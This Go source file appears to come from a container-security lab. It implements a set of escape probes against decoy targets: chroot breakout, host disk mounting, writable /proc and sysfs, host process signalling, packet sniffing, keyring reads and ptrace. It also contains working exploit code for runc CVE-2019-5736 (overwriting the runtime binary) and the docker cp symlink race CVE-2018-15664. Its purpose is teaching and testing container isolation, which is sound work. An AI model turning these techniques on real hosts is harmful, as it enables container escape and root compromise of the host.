//go:build linux

package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	goruntime "runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"containerlabs/labs/rootfs"
)

// attack is one exhibit of the escape gallery: the probe's subcommand, the number of its
// arguments, and the function that tries it. Each prints its verdict last (see main.go).
type attack struct {
	args int
	run  func(args []string) error
}

var attacks = map[string]attack{
	"chroot":   {1, func(a []string) error { return climbOut(a[0]) }},
	"disk":     {1, func(a []string) error { return readHostDisk(a[0]) }},
	"sysctl":   {0, func([]string) error { return openForWriting("sys/kernel/core_pattern") }},
	"sysrq":    {0, func([]string) error { return openForWriting("sysrq-trigger", "irq/default_smp_affinity") }},
	"sysfs":    {0, func([]string) error { return writableSysfs() }},
	"hostps":   {1, func(a []string) error { return signalHostProcess(a[0]) }},
	"sniff":    {1, func(a []string) error { return sniffHost(a[0]) }},
	"rawsock":  {0, func([]string) error { return rawSocket() }},
	"keyctl":   {1, func(a []string) error { return readHostKey(a[0]) }},
	"ptrace":   {0, func([]string) error { return ptraceOtherUser() }},
	"unshare":  {0, func([]string) error { return newNamespaces() }},
	"exe":      {2, func(a []string) error { return overwriteRuntime(a[0], a[1]) }},
	"exe-wait": {2, func(a []string) error { return waitToOverwrite(a[0], a[1]) }},
	"exe-file": {2, func(a []string) error { return overwriteFile(a[0], a[1]) }},
	"swap":     {2, func(a []string) error { return swapForCopy(a[0], a[1]) }},
}

const attackNames = "chroot FILE | disk MAJOR:MINOR | sysctl | sysrq | sysfs | hostps TAG | sniff TAG | " +
	"rawsock | keyctl DESCRIPTION | ptrace | unshare | exe TAG SECONDS | exe-file DEV:INO SECONDS | swap PATH SECONDS"

func open(format string, args ...any) error {
	fmt.Printf("open: "+format+"\n", args...)
	return nil
}

func closed(format string, args ...any) error {
	fmt.Printf("closed: "+format+"\n", args...)
	return nil
}

// climbOut is lab 01's escape: leave the chroot with "..", then read FILE, a marker the
// check wrote on the host outside the root.
func climbOut(file string) error {
	if err := rootfs.EscapeChroot(); err != nil {
		return closed("the climb failed: %v", err)
	}
	fmt.Println("reached the root of this mount namespace")
	data, err := os.ReadFile(file)
	if err != nil {
		return closed("%s is not there: this root is the container's own (%v)", file, err)
	}
	return open("read the host's %s: %s", file, data)
}

// decoyPrefix starts the content of the decoy disk's file; the check appends a random token.
const decoyPrefix = "containerlabs-decoy:"

// readHostDisk makes a device node for a block device of the host (the check's loop device,
// MAJOR:MINOR) and mounts it read-only, or failing that reads it raw, to find the decoy
// file's token. Any disk of the host would do as well: this is how a root process reaches
// files no mount namespace shows it.
func readHostDisk(spec string) error {
	major, minor, ok := strings.Cut(spec, ":")
	maj, err1 := strconv.Atoi(major)
	min, err2 := strconv.Atoi(minor)
	if !ok || err1 != nil || err2 != nil {
		return fmt.Errorf("%q is not MAJOR:MINOR", spec)
	}
	node := "/.probe-disk"
	if info, err := os.Stat("/dev"); err == nil && info.IsDir() {
		node = "/dev/.probe-disk"
	}
	_ = os.Remove(node)
	if err := unix.Mknod(node, unix.S_IFBLK|0o600, int(unix.Mkdev(uint32(maj), uint32(min)))); err != nil {
		return closed("mknod %s: %v", node, err)
	}
	defer os.Remove(node)
	fmt.Printf("made %s, block device %s\n", node, spec)

	var refusals []string
	mnt := "/.probe-mnt"
	if err := os.MkdirAll(mnt, 0o700); err == nil {
		defer os.Remove(mnt)
		err = unix.Mount(node, mnt, "ext4", unix.MS_RDONLY, "")
		if err == nil {
			data, readErr := os.ReadFile(filepath.Join(mnt, "secret"))
			_ = unix.Unmount(mnt, unix.MNT_DETACH)
			if readErr == nil {
				return open("mounted the host's disk %s and read its file: %s", spec, bytes.TrimSpace(data))
			}
			refusals = append(refusals, fmt.Sprintf("read: %v", readErr))
		} else {
			refusals = append(refusals, fmt.Sprintf("mount: %v", err))
		}
	}
	f, err := os.Open(node)
	if err != nil {
		refusals = append(refusals, fmt.Sprintf("open: %v", err))
		return closed("%s", strings.Join(refusals, "; "))
	}
	defer f.Close()
	buf := make([]byte, 4<<20)
	n, _ := f.Read(buf)
	if i := bytes.Index(buf[:n], []byte(decoyPrefix)); i >= 0 {
		token, _, _ := bytes.Cut(buf[i:n], []byte("\n"))
		return open("read the host's disk %s raw (%s) and found: %s", spec, strings.Join(refusals, "; "), token)
	}
	return closed("read %d bytes of %s but no decoy in them", n, spec)
}

// withProc calls f with the path of a procfs: /proc if one is mounted, or else one the
// probe mounts itself (root can, unless something took CAP_SYS_ADMIN away) and unmounts.
func withProc(f func(proc string) error) error {
	if _, err := os.Stat("/proc/self"); err == nil {
		return f("/proc")
	}
	dir := "/.probe-proc"
	if err := os.MkdirAll(dir, 0o555); err != nil {
		return closed("no /proc, and no place to mount one: %v", err)
	}
	defer os.Remove(dir)
	if err := unix.Mount("proc", dir, "proc", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ""); err != nil {
		return closed("no /proc, and mounting one failed: %v", err)
	}
	fmt.Printf("mounted a procfs at %s\n", dir)
	defer unix.Unmount(dir, unix.MNT_DETACH)
	return f(dir)
}

// openForWriting opens a file of /proc that changes the host's kernel (a sysctl, the sysrq
// trigger) for writing, and closes it without writing a byte. Where the kernel has no such
// file, the next name stands in for it (a kernel without SysRq has /proc/irq, which Docker
// protects the same way).
func openForWriting(names ...string) error {
	return withProc(func(proc string) error {
		name := names[0]
		for _, n := range names {
			if _, err := os.Stat(filepath.Join(proc, n)); err == nil {
				name = n
				break
			}
		}
		f, err := os.OpenFile(filepath.Join(proc, name), os.O_WRONLY, 0)
		if err != nil {
			return closed("open /proc/%s for writing: %v", name, err)
		}
		f.Close()
		return open("opened /proc/%s for writing (and closed it unwritten): one write would change the host's kernel", name)
	})
}

// writableSysfs makes /sys read-write: by remounting the read-only one the container was
// given, or, where that is not enough or there is none, by mounting a sysfs of its own.
// Nothing under it is written. (A remount changes only this mount's flags: it is not enough
// when the file system itself was made read-only, as a new network namespace's sysfs is.)
func writableSysfs() error {
	var refusals []string
	var st unix.Statfs_t
	if err := unix.Statfs("/sys/kernel", &st); err == nil {
		// First this mount's flags; then, if the file system itself is read-only (a new
		// network namespace's sysfs, made read-only by its first mount), the file system's
		// too. The latter is never undone: it is a no-op on a read-write file system, such
		// as the host's, and the container's own goes with its network namespace.
		bind := uintptr(unix.MS_REMOUNT | unix.MS_BIND | unix.MS_NOSUID | unix.MS_NODEV | unix.MS_NOEXEC)
		for _, flags := range []uintptr{bind, bind &^ unix.MS_BIND} {
			err := unix.Mount("", "/sys", "", flags, "")
			if err == nil && unix.Statfs("/sys/kernel", &st) == nil && st.Flags&unix.ST_RDONLY == 0 {
				_ = unix.Mount("", "/sys", "", bind|unix.MS_RDONLY, "")
				return open("remounted /sys read-write (and this mount back): its files reach the host's devices and kernel")
			}
			refusals = append(refusals, fmt.Sprintf("remount /sys read-write (%#x): %v", flags, err))
		}
	}
	dir := "/.probe-sys"
	if err := os.MkdirAll(dir, 0o555); err != nil {
		return closed("%s", strings.Join(append(refusals, fmt.Sprintf("no place to mount a sysfs: %v", err)), "; "))
	}
	defer os.Remove(dir)
	if err := unix.Mount("sysfs", dir, "sysfs", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ""); err != nil {
		return closed("%s", strings.Join(append(refusals, fmt.Sprintf("mount a sysfs: %v", err)), "; "))
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	if err := unix.Statfs(dir, &st); err != nil || st.Flags&unix.ST_RDONLY != 0 {
		return closed("mounted a sysfs, but read-only (%v)", err)
	}
	return open("mounted a read-write sysfs: its files reach the host's devices and kernel")
}

// signalHostProcess looks through /proc for the check's decoy process, whose command line
// holds "decoy-TAG", and sends it SIGTERM. The tag alone is in the probe's own command line
// (and its parent's), so the probe never finds itself.
func signalHostProcess(tag string) error {
	want := []byte("decoy-" + tag)
	return withProc(func(proc string) error {
		entries, err := os.ReadDir(proc)
		if err != nil {
			return closed("read %s: %v", proc, err)
		}
		seen := 0
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil {
				continue
			}
			seen++
			cmdline, err := os.ReadFile(filepath.Join(proc, e.Name(), "cmdline"))
			if err != nil || !bytes.Contains(cmdline, want) {
				continue
			}
			if err := unix.Kill(pid, unix.SIGTERM); err != nil {
				return closed("found the host's process %d but could not signal it: %v", pid, err)
			}
			return open("found the host's process %d among %d and sent it SIGTERM", pid, seen)
		}
		return closed("the host's process is not among the %d processes visible here", seen)
	})
}

// packetProtocol turns a 16-bit protocol number into network byte order, as packet sockets
// want it.
func packetProtocol(v uint16) int { return int(v<<8 | v>>8) }

// sniffHost captures every frame on every interface it can see for a moment, looking for the
// datagrams the check sends over the host's loopback, which carry "sniff-decoy-TAG".
func sniffHost(tag string) error {
	want := []byte("sniff-decoy-" + tag)
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, packetProtocol(unix.ETH_P_ALL))
	if err != nil {
		return closed("open a packet socket: %v", err)
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 100000})
	fmt.Println("capturing")
	frames := 0
	buf := make([]byte, 65536)
	for end := time.Now().Add(1500 * time.Millisecond); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		frames++
		if bytes.Contains(buf[:n], want) {
			return open("captured the host's traffic (a frame with the check's datagram, after %d frames)", frames)
		}
	}
	return closed("captured %d frames in 1.5 s, none of them the host's traffic", frames)
}

// rawSocket opens a packet socket, with which a process can forge any frame on its
// network: ARP replies that redirect its neighbours' traffic, spoofed source addresses.
func rawSocket() error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, packetProtocol(unix.ETH_P_ARP))
	if err != nil {
		return closed("open a packet socket: %v", err)
	}
	unix.Close(fd)
	return open("opened a packet socket: this process can forge any frame on its network (CAP_NET_RAW)")
}

// readHostKey searches the user keyring of the probe's uid for the check's key and reads it.
// Keys are not namespaced by any namespace but the user namespace: root in a container
// without one shares the host root's keyring.
func readHostKey(description string) error {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", description, 0)
	if err != nil {
		return closed("search the user keyring: %v", err)
	}
	buf := make([]byte, 256)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	if err != nil {
		return closed("found key %d but cannot read it: %v", id, err)
	}
	return open("read the host root's key %q: %s", description, buf[:min(n, len(buf))])
}

// ptraceOtherUser starts a child that becomes uid 65534, then attaches to it with ptrace:
// a process that may do that may read and write the memory of any process it can see.
func ptraceOtherUser() error {
	child := exec.Command(os.Args[0], "sleep", "10", "ptrace-target", "--as", "65534")
	// Explicit descriptors: os/exec would open /dev/null, which lab 01's root lacks.
	child.Stdin, child.Stdout, child.Stderr = os.Stdin, os.Stderr, os.Stderr
	if err := child.Start(); err != nil {
		return fmt.Errorf("start a process of another user: %w", err)
	}
	defer func() {
		_ = child.Process.Kill()
		_ = child.Wait()
	}()
	// Wait until the child runs as the other user (its uid in /proc, or just a moment).
	time.Sleep(100 * time.Millisecond)
	goruntime.LockOSThread() // ptrace requests must come from the thread that attached
	defer goruntime.UnlockOSThread()
	if err := unix.PtraceAttach(child.Process.Pid); err != nil {
		return closed("ptrace PID %d (uid 65534): %v", child.Process.Pid, err)
	}
	var status unix.WaitStatus
	_, _ = unix.Wait4(child.Process.Pid, &status, unix.WALL, nil)
	_ = unix.PtraceDetach(child.Process.Pid)
	return open("attached with ptrace to PID %d, a process of uid 65534: its memory is ours to read and write", child.Process.Pid)
}

// newNamespaces unshares a mount and a network namespace on one thread: the first step of
// most kernel exploits that need capabilities, which a new namespace hands out.
func newNamespaces() error {
	goruntime.LockOSThread() // the thread keeps the namespaces; it dies with the probe
	if err := unix.Unshare(unix.CLONE_NEWNS | unix.CLONE_NEWNET); err != nil {
		return closed("unshare(CLONE_NEWNS|CLONE_NEWNET): %v", err)
	}
	return open("made a new mount and network namespace with unshare(2)")
}

// overwriteRuntime is CVE-2019-5736 (runc) in its simplest form: a process in the container
// finds a process running the runtime's binary, keeps a handle on that file through
// /proc/PID/exe, and waits until no process runs the binary any more (the kernel refuses
// writes to a running executable: ETXTBSY), then writes it. Whoever runs the runtime next
// runs the attacker's code as root on the host. TAG limits the targets to the copy the
// check made of the lab's binary: the probe never touches any other file.
//
// The waiting happens in a process of its own (exe-wait), started in its own session so it
// can outlive this one, and the probe returns at once: the runtime only stops running once
// its container's command has exited.
func overwriteRuntime(tag, seconds string) error {
	log, err := os.OpenFile("/.probe-exe.log", os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o600)
	if err != nil {
		return fmt.Errorf("make the waiter's log: %w", err)
	}
	defer log.Close()
	waiter := exec.Command(os.Args[0], "exe-wait", tag, seconds)
	// Explicit descriptors: os/exec would open /dev/null, which lab 01's root lacks, and the
	// container's output pipe must not stay open behind the probe.
	waiter.Stdin, waiter.Stdout, waiter.Stderr = os.Stdin, log, log
	waiter.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := waiter.Start(); err != nil {
		return fmt.Errorf("start the waiter: %w", err)
	}
	fmt.Printf("waiting in the background (PID %d) for the runtime's binary to be free\n", waiter.Process.Pid)
	// The waiter reports the targets it holds on its first pass; give it that long.
	time.Sleep(200 * time.Millisecond)
	data, _ := os.ReadFile("/.probe-exe.log")
	fmt.Print(string(data))
	return nil
}

// exeMarker is what the attack writes at the start of the runtime's binary.
const exeMarker = "#!containerlabs CVE-2019-5736 was here\n"

// overwriteFile is CVE-2019-5736 as it was first shown: the container gets the runtime's
// binary run inside it (an exec of a script whose interpreter leads to /proc/self/exe) and
// overwrites it once it stops running, as overwriteRuntime does. The target is named by its
// device and inode numbers, DEV:INO, which the check read from its copy of the runtime: a
// runtime that starts its init from a read-only mount of its binary shows the container a
// path such as "/" for it, which no tag could match. It waits in the foreground.
func overwriteFile(file, seconds string) error {
	var dev, ino uint64
	if _, err := fmt.Sscanf(file, "%d:%d", &dev, &ino); err != nil {
		return fmt.Errorf("%q is not DEV:INO", file)
	}
	return holdAndOverwrite(seconds, func(target string, st unix.Stat_t) bool { return st.Dev == dev && st.Ino == ino })
}

// waitToOverwrite is the waiting half of overwriteRuntime.
func waitToOverwrite(tag, seconds string) error {
	return holdAndOverwrite(seconds, func(target string, st unix.Stat_t) bool { return strings.Contains(target, tag) })
}

// holdAndOverwrite holds the executable of every process that target accepts (by its
// /proc/PID/exe link and its stat), and writes the first one that no process runs any more.
func holdAndOverwrite(seconds string, target func(link string, st unix.Stat_t) bool) error {
	limit, err := strconv.Atoi(seconds)
	if err != nil {
		return fmt.Errorf("%q is not a number of seconds", seconds)
	}
	// A procfs of our own: the container's /proc may be unmounted before we are done.
	dir := "/.probe-exe-proc"
	proc := "/proc"
	if err := os.MkdirAll(dir, 0o555); err == nil {
		if err := unix.Mount("proc", dir, "proc", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ""); err == nil {
			proc = dir
			defer os.Remove(dir)
			defer unix.Unmount(dir, unix.MNT_DETACH)
		} else {
			os.Remove(dir)
		}
	}
	var self unix.Stat_t
	if err := unix.Stat(filepath.Join(proc, "self/exe"), &self); err != nil {
		return closed("no /proc to look through: %v", err)
	}
	held := map[int]string{} // descriptor -> the path of the file it holds
	tried := map[string]bool{}
	reported := false
	// The runtime's binary may run in the container for a few milliseconds only.
	for end := time.Now().Add(time.Duration(limit) * time.Second); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
		entries, _ := os.ReadDir(proc)
		for _, e := range entries {
			if _, err := strconv.Atoi(e.Name()); err != nil || tried[e.Name()] {
				continue
			}
			// A process that may not be looked at yet (a runtime's init is not dumpable
			// until it execs) is looked at again on the next pass.
			link := filepath.Join(proc, e.Name(), "exe")
			name, err := os.Readlink(link)
			if err != nil {
				continue
			}
			fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			tried[e.Name()] = true
			var st unix.Stat_t
			if unix.Fstat(fd, &st) != nil || (st.Dev == self.Dev && st.Ino == self.Ino) || !target(name, st) {
				unix.Close(fd)
				continue
			}
			target := name
			held[fd] = target
			fmt.Printf("holding %s, the binary of PID %s\n", target, e.Name())
		}
		if !reported {
			reported = true
			if len(held) == 0 {
				fmt.Println("no process running the runtime's binary is visible yet")
			}
		}
		for fd, target := range held {
			f, err := os.OpenFile(filepath.Join(proc, "self/fd", strconv.Itoa(fd)), os.O_WRONLY, 0)
			if errors.Is(err, unix.ETXTBSY) {
				continue // still running somewhere: wait
			}
			if err != nil {
				return closed("reopen %s for writing: %v", target, err)
			}
			_, err = f.WriteAt([]byte(exeMarker), 0)
			f.Close()
			if err != nil {
				return closed("write %s: %v", target, err)
			}
			return open("overwrote the runtime's binary %s once it stopped running", target)
		}
	}
	if len(held) == 0 {
		return closed("no process running the runtime's binary was visible")
	}
	return closed("the runtime's binary stayed busy (ETXTBSY) as long as this process lived")
}

// swapForCopy is CVE-2018-15664 (docker cp): while the engine copies PATH out of the
// container, the container swaps the directory /w/d, which holds a harmless file at PATH,
// with a symbolic link /w/l to "/", over and over. An engine that resolves the path once and
// then opens it on the host may follow the link and copy the host's file at PATH instead.
func swapForCopy(path, seconds string) error {
	limit, err := strconv.Atoi(seconds)
	if err != nil {
		return fmt.Errorf("%q is not a number of seconds", seconds)
	}
	inside := filepath.Join("/w/d", path)
	if err := os.MkdirAll(filepath.Dir(inside), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(inside, []byte("the container's own file\n"), 0o644); err != nil {
		return err
	}
	_ = os.Remove("/w/l")
	if err := os.Symlink("/", "/w/l"); err != nil {
		return err
	}
	fmt.Println("swapping /w/d and /w/l")
	swaps := 0
	for end := time.Now().Add(time.Duration(limit) * time.Second); time.Now().Before(end); swaps++ {
		if err := unix.Renameat2(unix.AT_FDCWD, "/w/d", unix.AT_FDCWD, "/w/l", unix.RENAME_EXCHANGE); err != nil {
			return closed("renameat2(RENAME_EXCHANGE): %v", err)
		}
	}
	fmt.Printf("swapped %d times\n", swaps)
	return nil
}
